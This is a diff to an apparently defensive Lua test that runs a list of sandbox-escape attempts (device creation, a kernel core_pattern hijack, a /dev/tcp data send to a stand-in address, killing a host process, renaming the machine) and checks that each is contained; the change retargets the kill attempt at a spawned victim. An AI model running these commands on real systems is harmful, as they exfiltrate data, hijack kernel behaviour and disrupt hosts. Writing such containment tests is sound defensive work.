@@ -13,7 +13,7 @@ local ATTEMPTS = {
   { "make a device of the disk", "mknod /tmp/disk b 8 0" },
   { "get at the kernel", "echo '|/tmp/evil' >/proc/sys/kernel/core_pattern" },
   { "send the loot away", "bash -c 'echo loot >/dev/tcp/192.0.2.1/80'" },
-  { "kill a process of the host", "kill -9 $HOST_PID" },
+  { "kill a process of the host", 'pkill -9 -fx "$VICTIM" || { echo "No such process" >&2; false; }' },
   { "see other programs", '[ "$(ps -A | wc -l)" -gt 6 ] || { echo "only its own are there" >&2; false; }' },
   { "rename the machine", "hostname evil" },
   { "get a mount namespace", "unshare --mount true" },
@@ -26,9 +26,10 @@ local ATTEMPTS = {
 local marker = os.tmpname()
 local host_pid = assert(io.open("/proc/self/stat")):read("*n")
 local number = ("1%09d"):format(host_pid) -- seconds of sleep, by which processes are known that were left
+local victim = assert(ns.spawn { "sleep", "2" .. number }) -- by its name: its pid may be one of the sandbox's, too
 local box = ns.sandbox():timeout(2):grace(0.2):max_output(4096)
   :rlimits { as = 64 * 1024 * 1024, nproc = 100, core = 0, fsize = 1024 * 1024 }
-  :env { MARKER = marker, HOST_PID = ("%d"):format(host_pid), NUMBER = number }
+  :env { MARKER = marker, VICTIM = "sleep 2" .. number, NUMBER = number }
 
 local function came_of(r)
   if r.ok then return "DONE" end
@@ -41,5 +42,6 @@ for _, attempt in ipairs(ATTEMPTS) do
   print(("%-34s %s"):format(attempt[1], came_of(assert(box:run("sh", "-c", attempt[2])))))
 end
 os.remove(marker)
+victim:close()
 local left = ns.run({ "pgrep", "-fx", "sleep " .. number }).stdout
 print(("%-34s %s"):format("what is left of it", left == "" and "nothing" or left))
